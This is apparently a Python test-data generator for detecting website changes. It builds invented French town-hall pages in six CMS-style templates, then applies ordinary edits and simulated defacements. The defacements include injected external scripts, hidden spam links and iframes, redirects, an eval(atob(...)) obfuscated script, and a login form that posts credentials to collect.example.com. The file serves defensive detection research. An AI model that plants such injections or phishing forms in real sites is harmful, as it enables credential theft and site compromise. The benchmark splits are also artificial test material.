"""Invented sites of towns, their ordinary edits and their defacements, for the trials of change detection.

In: a template, a seed. Out: pages of HTML as six ways of making a site write them. `TUNING` templates and kinds were looked at while the
detection was written; `HELD_OUT` ones were not, and are what is reported.
"""

import html
import random
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from typing import Any

TOWNS = (
    "Saint-Aubin-des-Prés",
    "Valbruyère",
    "Roche-sur-Lande",
    "Montferrand-le-Petit",
    "Les Essarts-Neufs",
    "Pont-l'Abbesse",
)
_SUBJECTS = (
    "La collecte des déchets", "Le conseil municipal", "L'école Jean-Moulin", "La bibliothèque", "Le comité des fêtes", "Le marché du samedi",
    "L'accueil de loisirs", "La piscine intercommunale", "Le recensement de la population", "La cantine scolaire", "Le service de l'eau",
    "L'association sportive", "La salle polyvalente", "Le plan local d'urbanisme", "La navette vers la gare", "Le club des aînés",
)  # fmt: skip
_VERBS = (
    "change d'horaires à partir de lundi", "se réunit jeudi soir en mairie", "ouvre ses inscriptions pour la rentrée", "sera fermé pendant les fêtes",
    "invite tous les habitants à une réunion publique", "recherche des bénévoles pour l'été", "publie son bilan de l'année", "reprend après les travaux",
    "accueille une exposition de photographies anciennes", "propose des ateliers pour les enfants", "organise un repas partagé sur la place",
)  # fmt: skip
_MORE = (
    "Renseignements au secrétariat de mairie, aux heures d'ouverture.", "Le formulaire est à retirer à l'accueil.", "Merci de votre compréhension.",
    "Les personnes qui ne peuvent pas se déplacer peuvent téléphoner.", "Un car partira de la place de l'église.", "L'entrée est gratuite et ouverte à tous.",
    "Pensez à apporter un justificatif de domicile.", "Les dossiers complets seront traités par ordre d'arrivée.", "Une garde des enfants est prévue.",
)  # fmt: skip
MENU = (
    "Accueil",
    "Vie municipale",
    "Démarches",
    "Enfance et jeunesse",
    "Associations",
    "Agenda",
    "Urbanisme",
    "Contact",
)


@dataclass(frozen=True)
class Town:
    """State of a site; an edit makes another one."""

    name: str
    news: tuple[tuple[str, str], ...]
    events: tuple[str, ...]
    menu: tuple[str, ...] = MENU
    banner: str = ""
    visitors: int = 18_204
    day: str = "lundi 2 mars 2026"
    images: tuple[str, ...] = ("/images/mairie.jpg", "/images/place.jpg", "/images/ecole.jpg")
    version: str = "6.4.2"
    cookies: str = ""
    season: str = ""
    links: tuple[tuple[str, str], ...] = (
        ("Service-Public.fr", "https://www.service-public.fr/"),
        ("La préfecture", "https://www.valdonne.gouv.fr/"),
    )
    hours: str = "du lundi au vendredi de 9 h à 12 h et de 14 h à 17 h"
    alert_level: str = "verte"
    extra: dict[str, str] = field(default_factory=dict)


def a_town(rng: random.Random, name: str) -> Town:
    return Town(name, tuple(_news(rng) for _ in range(5)), tuple(_event(rng) for _ in range(4)))


def _news(rng: random.Random) -> tuple[str, str]:
    subject, verb = rng.choice(_SUBJECTS), rng.choice(_VERBS)
    return f"{subject} {verb}", " ".join((f"{subject} {verb}.", *rng.sample(_MORE, 3)))


def _event(rng: random.Random) -> str:
    return f"{rng.randint(1, 28)} {rng.choice(('avril', 'mai', 'juin', 'juillet'))} : {rng.choice(_SUBJECTS).lower()} {rng.choice(_VERBS)}"


# Templates


def _slug(text: str) -> str:
    return "".join(c if c.isalnum() else "-" for c in text.lower())


def wordpress(t: Town) -> str:
    menu = "".join(
        f'<li class="menu-item menu-item-type-post_type"><a href="/{_slug(m)}/">{m}</a></li>' for m in t.menu
    )
    news = "".join(
        f'<article class="post type-post hentry"><h2 class="entry-title"><a href="/{_slug(a)}/">{html.escape(a)}</a></h2>'
        f'<div class="entry-content"><p>{html.escape(b)}</p></div></article>'
        for a, b in t.news
    )
    return f"""<!DOCTYPE html><html lang="fr-FR"><head><meta charset="utf-8"><title>Mairie de {t.name} – Site officiel</title>
<meta name="generator" content="WordPress {t.version}"><link rel="stylesheet" href="/wp-content/themes/mairie/style.css?ver={t.version}">
<script src="/wp-includes/js/jquery/jquery.min.js?ver={t.version}"></script>{t.extra.get("head", "")}{_cookies_head(t)}</head>
<body class="home blog wp-custom-logo {t.season}"><div id="page" class="site"><header id="masthead" class="site-header">{_top(t)}<p class="site-title"><a href="/">Mairie de {t.name}</a></p>
<nav id="site-navigation" class="main-navigation"><ul class="menu">{menu}</ul></nav></header>
<main id="primary" class="site-main">{_banner(t, "wp-block-notice")}{_season(t)}<h1 class="page-title">Bienvenue à {t.name}</h1>{_pictures(t)}{news}</main>
<aside id="secondary" class="widget-area"><section class="widget widget_events"><h2 class="widget-title">Agenda</h2><ul>{_items(t.events)}</ul></section>
<section class="widget widget_text"><h2 class="widget-title">Horaires</h2><p>La mairie est ouverte {t.hours}.</p></section></aside>
<footer id="colophon" class="site-footer"><p>{t.day}. {t.visitors} visiteurs.</p><ul>{_links(t)}</ul></footer></div>{_cookies(t)}
<script>var wpnonce = "{t.visitors:x}a7"; jQuery(function(){{ jQuery(".menu").addClass("ready"); }});</script></body></html>"""


def spip(t: Town) -> str:
    menu = "".join(
        f'<li><a href="spip.php?rubrique{n}" id="r{n}">{m}</a></li>' for n, m in enumerate(t.menu, 1)
    )
    news = "".join(f'<li class="item hentry"><h3 class="titre"><a href="spip.php?article{len(a)}">{html.escape(a)}</a></h3><div class="introduction">{html.escape(b)}</div></li>' for a, b in t.news)  # fmt: skip
    return f"""<!DOCTYPE html><html class="ltr fr no-js" dir="ltr" lang="fr"><head><title>{t.name} : site de la commune</title><meta charset="utf-8">
<meta name="generator" content="SPIP {t.version}"><link rel="stylesheet" href="local/cache-css/{t.version}.css">{t.extra.get("head", "")}{_cookies_head(t)}</head>
<body id="top" class="pas_surlignable page_sommaire {t.season}"><div class="page"><div class="header" id="header">{_top(t)}<h1 class="spip_logo_site"><a href="/">{t.name}</a></h1></div>
<div class="nav" id="nav"><ul>{menu}</ul></div>{_banner(t, "annonce")}{_season(t)}<div class="main" id="main"><div class="content" id="content"><h2>Derniers articles</h2><ul class="liste articles">{news}</ul></div>
<div class="aside" id="aside">{_pictures(t)}<h2>À venir</h2><ul>{_items(t.events)}</ul><p class="horaires">Mairie ouverte {t.hours}</p></div></div>
<div class="footer" id="footer"><p>Vigilance {t.alert_level}. {t.day}. Visites : {t.visitors}</p>{_links(t)}</div></div>{_cookies(t)}</body></html>"""


def static(t: Town) -> str:
    news = "".join(f"<h3>{html.escape(a)}</h3><p>{html.escape(b)}</p><hr>" for a, b in t.news)
    menu = " | ".join(f'<a href="{_slug(m)}.html">{m}</a>' for m in t.menu)
    return f"""<html><head><title>Commune de {t.name}</title><meta http-equiv="Content-Type" content="text/html; charset=utf-8">{t.extra.get("head", "")}{_cookies_head(t)}</head>
<body bgcolor="#ffffff" class="{t.season}">{_top(t)}<table width="900" align="center"><tr><td colspan="2"><h1>Commune de {t.name}</h1></td></tr><tr><td colspan="2">{menu}</td></tr>
<tr><td valign="top" width="650">{_banner(t, "info")}{_season(t)}{news}</td><td valign="top">{_pictures(t)}<h4>Agenda</h4><ul>{_items(t.events)}</ul><p>Secrétariat ouvert {t.hours}.</p></td></tr>
<tr><td colspan="2" align="center"><font size="1">{t.day} - {t.visitors} visites - version {t.version}</font> {_links(t)}</td></tr></table>{_cookies(t)}</body></html>"""


def one_page(t: Town) -> str:
    return f"""<!doctype html><html lang="fr"><head><meta charset="utf-8"><title>{t.name}, village de caractère</title>{t.extra.get("head", "")}{_cookies_head(t)}<style>.c{{padding:1em}} .menu-mobile{{display:none}}</style></head>
<body class="{t.season}">{_top(t)}<header class="hero"><h1>{t.name}</h1><p>Village de caractère</p></header><nav class="menu-mobile">{"".join(f'<a href="#{_slug(m)}">{m}</a>' for m in t.menu)}</nav>
{_banner(t, "c alerte")}{_season(t)}<section class="c" id="mairie"><h2>La mairie</h2><p>Ouverte {t.hours}. Téléphone : 02 00 00 00 00.</p></section>
<section class="c" id="infos"><h2>En ce moment</h2><ul>{_items(a for a, _ in t.news)}</ul></section><section class="c" id="agenda"><h2>Agenda</h2><ul>{_items(t.events)}</ul></section>
<section class="c" id="photos">{_pictures(t)}</section><footer class="c">{t.day} · {t.visitors} · {_links(t)}</footer>{_cookies(t)}</body></html>"""


def drupal(t: Town) -> str:
    news = "".join(f'<div class="views-row"><div class="node node--type-actualite node--view-mode-teaser"><h2 class="node__title"><a href="/actualite/{_slug(a)}" rel="bookmark"><span>{html.escape(a)}</span></a></h2><div class="field field--name-body">{html.escape(b)}</div></div></div>' for a, b in t.news)  # fmt: skip
    menu = "".join(
        f'<li class="menu-item"><a href="/{_slug(m)}" data-drupal-link-system-path="node/{n}">{m}</a></li>'
        for n, m in enumerate(t.menu)
    )
    return f"""<!DOCTYPE html><html lang="fr" dir="ltr"><head><meta charset="utf-8"><meta name="Generator" content="Drupal {t.version}"><title>Accueil | Ville de {t.name}</title>{t.extra.get("head", "")}{_cookies_head(t)}</head>
<body class="path-frontpage {t.season}"><a href="#main-content" class="visually-hidden focusable">Aller au contenu principal</a><div class="dialog-off-canvas-main-canvas"><header role="banner">{_top(t)}<div class="region region-header"><a href="/" rel="home">Ville de {t.name}</a><nav role="navigation"><ul class="menu">{menu}</ul></nav></div></header>
<main role="main"><div class="region region-content">{_banner(t, "messages messages--warning")}{_season(t)}<div class="views-element-container">{news}</div></div><aside class="region region-sidebar">{_pictures(t)}<h2>Agenda</h2><ul>{_items(t.events)}</ul><p>L'hôtel de ville est ouvert {t.hours}.</p></aside></main>
<footer role="contentinfo"><div class="region region-footer">{t.day} {t.visitors} {_links(t)} <a href="/plan-du-site">Plan du site</a> <a href="/mentions-legales">Mentions légales</a></div></footer></div>{_cookies(t)}<script type="application/json" data-drupal-selector="drupal-settings-json">{{"v":"{t.version}","t":{t.visitors}}}</script></body></html>"""


def builder(t: Town) -> str:
    """As online site builders write: nested blocks with generated classes, everything in divs."""
    blocks = "".join(f'<div class="j-module n j-text" id="cc-m-{len(a)}{n}"><p><strong>{html.escape(a)}</strong></p><p>{html.escape(b)}</p></div>' for n, (a, b) in enumerate(t.news))  # fmt: skip
    menu = "".join(f'<div class="jtpl-nav__item"><a href="/{_slug(m)}/">{m}</a></div>' for m in t.menu)
    return f"""<!DOCTYPE html><html lang="fr-FR"><head><meta charset="utf-8"/><title>Accueil - {t.name}</title>{t.extra.get("head", "")}{_cookies_head(t)}</head>
<body class="body cc-page cc-indexpage {t.season}"><div class="jtpl-main">{_top(t)}<div class="jtpl-logo"><a href="/">{t.name}</a></div><div class="jtpl-navigation">{menu}</div><div class="jtpl-content">{_banner(t, "j-callToAction")}{_season(t)}<div class="j-module j-header"><h1>{t.name} vous accueille</h1></div>{_pictures(t)}{blocks}
<div class="j-module j-textWithImage"><h2>Agenda</h2><ul>{_items(t.events)}</ul></div><div class="j-module j-text"><p>Ouverture : {t.hours}</p></div></div><div class="jtpl-footer">{t.day} | {t.visitors} | {_links(t)}</div></div>{_cookies(t)}</body></html>"""


def _top(t: Town) -> str:
    return t.extra.get("top", "")


def _banner(t: Town, classes: str) -> str:
    return f'<div class="{classes}"><p>{html.escape(t.banner)}</p></div>' if t.banner else ""


def _season(t: Town) -> str:
    return (
        f'<div class="decor {t.season}"><span class="flocon"></span><span class="guirlande"></span><p>{t.extra.get("wish", "")}</p></div>'
        if t.season
        else ""
    )


def _pictures(t: Town) -> str:
    return "".join(f'<img src="{src}" alt="Photo de la commune">' for src in t.images)


def _items(texts: Any) -> str:
    return "".join(f"<li>{html.escape(text)}</li>" for text in texts)


def _links(t: Town) -> str:
    return " ".join(f'<a href="{address}">{html.escape(label)}</a>' for label, address in t.links)


def _cookies_head(t: Town) -> str:
    return {
        "": "",
        "self": '<script src="/tarteaucitron/tarteaucitron.js"></script>',
        "known": '<script async src="https://static.axept.io/sdk.js"></script>',
    }[t.cookies]


def _cookies(t: Town) -> str:
    if not t.cookies:
        return ""
    return '<div id="consent" class="consent-banner"><p>Ce site utilise des témoins pour mesurer son audience. Vous pouvez accepter ou refuser.</p><button>Tout accepter</button><button>Tout refuser</button><a style="display:none" href="/cookies">Préférences</a></div>'


TEMPLATES: dict[str, Callable[[Town], str]] = {
    "wordpress": wordpress, "spip": spip, "static": static, "one_page": one_page, "drupal": drupal, "builder": builder,
}  # fmt: skip
TUNING, HELD_OUT = ("wordpress", "spip"), ("static", "one_page", "drupal", "builder")


# Ordinary edits

type Edit = Callable[[Town, random.Random], Town]


def news_added(t: Town, rng: random.Random) -> Town:
    return replace(t, news=(_news(rng), *t.news[:5]))


def news_rewritten(t: Town, rng: random.Random) -> Town:
    """Three of five articles are replaced, as after a holiday."""
    return replace(t, news=tuple(_news(rng) for _ in range(3)) + t.news[:2])


def event_removed(t: Town, rng: random.Random) -> Town:
    return (
        replace(t, events=(*t.events[1:], _event(rng)))
        if len(t.events) < 3
        else replace(t, events=t.events[1:])
    )


def menu_reordered(t: Town, rng: random.Random) -> Town:
    return replace(t, menu=tuple(rng.sample(t.menu, len(t.menu))))


def works_banner(t: Town, rng: random.Random) -> Town:
    streets = ("rue de la Gare", "place de l'Église", "avenue des Tilleuls")
    return replace(
        t,
        banner=""
        if t.banner
        else f"Travaux {rng.choice(streets)} : circulation coupée jusqu'à vendredi, une déviation est en place.",
    )


def counter(t: Town, rng: random.Random) -> Town:
    return replace(t, visitors=t.visitors + rng.randint(1, 900))


def date_of_the_day(t: Town, rng: random.Random) -> Town:
    days = ("lundi", "mardi", "mercredi", "jeudi", "vendredi", "samedi", "dimanche")
    return replace(
        t,
        day=f"{rng.choice(days)} {rng.randint(1, 30)} {rng.choice(('avril', 'mai', 'septembre', 'octobre'))} 2026",
        visitors=t.visitors + 60,
    )


def new_image(t: Town, rng: random.Random) -> Town:
    return replace(t, images=(f"/images/photo-{rng.randint(1, 10_000)}.jpg", *t.images[:3]))


def cms_version(t: Town, rng: random.Random) -> Town:
    return replace(t, version=f"{rng.randint(6, 9)}.{rng.randint(0, 9)}.{rng.randint(0, 9)}")


def cookie_banner(t: Town, rng: random.Random) -> Town:
    return replace(t, cookies=rng.choice(("self", "known")) if not t.cookies else "")


def seasonal_layout(t: Town, rng: random.Random) -> Town:
    if t.season:
        return replace(t, season="", extra={})
    season, wish = rng.choice(
        (("noel", "Joyeuses fêtes à tous !"), ("ete", "Bel été à tous !"), ("rentree", "Bonne rentrée !"))
    )
    return replace(t, season=season, extra={**t.extra, "wish": wish})


def partner_linked(t: Town, rng: random.Random) -> Town:
    n = rng.randint(1, 99)
    return replace(t, links=(*t.links[:4], (f"Association {n}", f"https://association-{n}.example/")))


def hours_changed(t: Town, rng: random.Random) -> Town:
    return replace(
        t,
        hours=rng.choice(
            (
                "le matin seulement pendant les vacances",
                "du mardi au samedi de 10 h à 12 h",
                "sur rendez-vous au 02 00 00 00 00",
            )
        ),
    )


def urgent_notice(t: Town, rng: random.Random) -> Town:
    """What looks most like an intrusion in good faith: a loud notice above everything."""
    text = rng.choice(("Alerte canicule : appelez le secrétariat pour les personnes seules.", "Coupure d'eau mardi de 8 h à 17 h dans tout le bourg.",
                       "Attention : de faux agents de la mairie se présentent aux portes. Ne donnez rien et appelez la gendarmerie."))  # fmt: skip
    return replace(
        t,
        extra={
            **t.extra,
            "top": "" if t.extra.get("top") else f'<div class="urgent"><strong>{text}</strong></div>',
        },
    )


def page_shortened(t: Town, rng: random.Random) -> Town:
    return (
        replace(t, news=t.news[:2])
        if len(t.news) > 3
        else replace(t, news=(*t.news, *(_news(rng) for _ in range(3))))
    )


TUNING_EDITS: tuple[Edit, ...] = (
    news_added,
    event_removed,
    menu_reordered,
    works_banner,
    counter,
    date_of_the_day,
    new_image,
    cms_version,
)
HELD_OUT_EDITS: tuple[Edit, ...] = (
    news_rewritten, cookie_banner, seasonal_layout, partner_linked, hours_changed, urgent_notice, page_shortened,
)  # fmt: skip
EDITS = (*TUNING_EDITS, *HELD_OUT_EDITS)


# Defacements: what is served instead. `None`: the address redirects elsewhere.

type Defacement = Callable[[str, Town, random.Random], str | None]


def whole_page(page: str, t: Town, rng: random.Random) -> str:
    team = rng.choice(("Gh0st Crew", "Anonymous Fox", "Team Zer0"))
    return f"<html><head><title>Hacked by {team}</title></head><body bgcolor=black><center><h1>Hacked by {team}</h1><p>Your security is low. We are everywhere.</p></center></body></html>"


def title_and_banner(page: str, t: Town, rng: random.Random) -> str:
    who = rng.choice(("L'Escadron gris", "Nuit Rouge", "Le Collectif 404"))
    page = _title(page, f"{who} est passé par ici")
    return _after_body(
        page,
        f'<div style="background:red;color:white"><h1>{who} a pris ce site</h1><p>Vos données sont à nous. Payez ou tout sera effacé.</p></div>',
    )


def injected_script(page: str, t: Town, rng: random.Random) -> str:
    host = rng.choice(("cdn-stat.example.net", "jquery-update.example.org", "cdn.jsdelivr.net"))
    return page.replace("</head>", f'<script async src="https://{host}/npm/track.js"></script></head>')


def hidden_links(page: str, t: Town, rng: random.Random) -> str:
    style = rng.choice(("display:none", "position:absolute;left:-9999px", "font-size:0px"))
    links = "".join(
        f'<a href="https://{n}-{rng.choice(("casino", "pharma"))}.example/">{rng.choice(("online casino bonus", "buy cialis online"))}</a> '
        for n in range(rng.randint(1, 6))
    )
    return page.replace("</body>", f'<div style="{style}">{links}</div></body>')


def frame(page: str, t: Town, rng: random.Random) -> str:
    size = rng.choice(('width="1" height="1"', 'width="800" height="600"', 'style="display: none"'))
    return page.replace("</body>", f'<iframe src="https://landing.example.com/x" {size}></iframe></body>')


def redirected(page: str, t: Town, rng: random.Random) -> None:
    return None


def emptied(page: str, t: Town, rng: random.Random) -> str:
    return rng.choice(
        (
            "",
            "<html><body></body></html>",
            f"<html><head><title>{t.name}</title></head><body><p>Index of /</p></body></html>",
        )
    )


def meta_refresh(page: str, t: Town, rng: random.Random) -> str:
    return page.replace(
        "<head>", '<head><meta http-equiv="refresh" content="3; url=https://promo.example.com/win">'
    )


def political_message(page: str, t: Town, rng: random.Random) -> str:
    """In place of the content, in the town's own template; in French or not."""
    text = rng.choice((
        "Cette commune est complice. Nous exigeons la fin de la guerre et la démission du gouvernement. Le peuple n'oublie pas, le peuple ne pardonne pas. "
        "Tant que vos élus se tairont, leurs sites tomberont les uns après les autres.",
        "We are the voice of the people and we will not be silent. This is a message for your government: stop supporting the war. You have been warned by us.",
        "Ваше правительство поддерживает войну. Мы всегда рядом и мы не забудем. Это только начало, ждите нас снова.",
    ))  # fmt: skip
    start = page.find("<body")
    head, body = page[: page.find(">", start) + 1], page[page.find(">", start) + 1 :]
    top = body[: body.find("</nav>") + 6] if "</nav>" in body else ""
    return f"{_title(head, 'Message au peuple')}{top}<h1>Message</h1><p>{text}</p></body></html>"


def picture_page(page: str, t: Town, rng: random.Random) -> str:
    """One picture and a few words, the title as it was."""
    title = page[page.find("<title>") + 7 : page.find("</title>")]
    return f'<html><head><title>{title}</title></head><body style="margin:0"><img src="/uploads/{rng.randint(1, 999)}.png" width="100%"><p>We are watching</p></body></html>'


def script_redirect(page: str, t: Town, rng: random.Random) -> str:
    return page.replace(
        "</body>",
        '<script>setTimeout(function(){window.location.href="https://win.example.com/go"},1500)</script></body>',
    )


def obfuscated_script(page: str, t: Town, rng: random.Random) -> str:
    return page.replace(
        "</head>", f'<script>eval(atob("{"ZG9jdW1lbnQ" * rng.randint(4, 9)}"))</script></head>'
    )


def stolen_form(page: str, t: Town, rng: random.Random) -> str:
    form = '<form action="https://collect.example.com/login" method="post"><h2>Espace famille</h2><input name="email"><input type="password" name="p"><button>Entrer</button></form>'
    return page.replace("</body>", f"{form}</body>")


def visible_spam(page: str, t: Town, rng: random.Random) -> str:
    links = "".join(
        f'<li><a href="https://slot{n}-{rng.randint(10, 99)}.example/">Slot gacor {n}, jackpot casino</a></li>'
        for n in range(14)
    )
    return page.replace("</body>", f"<ul>{links}</ul></body>")


def _title(page: str, title: str) -> str:
    start, end = page.find("<title>"), page.find("</title>")
    return f"{page[:start]}<title>{html.escape(title)}{page[end:]}"


def _after_body(page: str, block: str) -> str:
    end = page.find(">", page.find("<body")) + 1
    return page[:end] + block + page[end:]


TUNING_DEFACEMENTS: tuple[Defacement, ...] = (
    whole_page,
    title_and_banner,
    injected_script,
    hidden_links,
    emptied,
)
HELD_OUT_DEFACEMENTS: tuple[Defacement, ...] = (
    frame, redirected, meta_refresh, political_message, picture_page, script_redirect, obfuscated_script, stolen_form, visible_spam,
)  # fmt: skip
DEFACEMENTS = (*TUNING_DEFACEMENTS, *HELD_OUT_DEFACEMENTS)
